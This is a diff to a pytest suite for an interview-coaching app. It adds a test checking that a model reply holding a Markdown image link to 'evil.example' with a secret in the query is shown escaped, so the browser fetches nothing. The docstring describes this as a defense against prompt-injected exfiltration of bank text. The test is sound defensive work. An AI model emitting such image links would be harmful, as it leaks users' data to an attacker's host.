@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from app_runner import open_page, start_app
 from fakes import FakeEngine
@@ -10,6 +12,7 @@ from interview_bank import interview_bank
 from resume_core.errors import EngineError
 from resume_core.store import LocalStore
 from resume_core.suggest import SuggestedItems
+from ui.markdown import escape_markdown
 
 pytestmark = pytest.mark.timeout(120)
 
@@ -24,8 +27,13 @@ def store(workspace):
     return store
 
 
+def _plain(markdown_text: str) -> str:
+    """The text as the user reads it: the page escapes Markdown, so backslash escapes are undone here."""
+    return re.sub(r"\\(.)", r"\1", markdown_text)
+
+
 def _messages(at) -> list[tuple[str, str]]:
-    return [(m.name, " ".join(md.value for md in m.markdown)) for m in at.chat_message]
+    return [(m.name, _plain(" ".join(md.value for md in m.markdown))) for m in at.chat_message]
 
 
 def _anecdotes(store):
@@ -42,7 +50,7 @@ def test_a_full_offline_interview_ends_as_a_saved_anecdote(store):
     at = open_page(start_app(), "interview")
     icebreakers = [b for b in at.button if b.key and b.key.startswith("icebreaker-")]
     assert 3 <= len(icebreakers) <= 5
-    question = icebreakers[0].label
+    question = _plain(icebreakers[0].label)
     assert "Migrated the billing service to Kubernetes" in question
     icebreakers[0].click().run()
     assert _messages(at) == [("assistant", question)]
@@ -160,3 +168,23 @@ def test_a_failing_summary_falls_back_to_the_users_own_sentences(store):
     next(b for b in at.button if b.label.startswith("✅ Finish")).click().run()
     assert any("timed out" in e.value for e in at.error)
     assert FIRST in at.text_area[0].value
+
+
+IMAGE = "![x](https://evil.example/?q=secret)"
+
+
+def test_a_model_reply_with_an_image_is_shown_as_text_not_loaded(store):
+    """A prompt-injected reply must not make the browser fetch a URL (which could carry bank text)."""
+    at = open_page(start_app(), "interview")
+    reply = f"Nice. {IMAGE} Which part was yours?"
+    at.session_state["tp_engine"] = (None, FakeEngine(chat=[(f"Hi {IMAGE}", EngineError("Cut off.", fix="Retry.")),
+                                                            reply]))
+    _answer(at, FIRST)  # the stream breaks off: what arrived stays on screen, escaped
+    bodies = [md.value for m in at.chat_message for md in m.markdown]
+    assert escape_markdown("Hi" + IMAGE) in bodies and not any("![x](" in b for b in bodies)
+
+    at.run()
+    next(b for b in at.button if b.label.startswith("🔁")).click().run()  # the whole reply, saved and redrawn
+    bodies = [md.value for m in at.chat_message for md in m.markdown]
+    assert escape_markdown(reply) in bodies and not any("![x](" in b for b in bodies)
+    assert _messages(at)[-1] == ("assistant", reply)
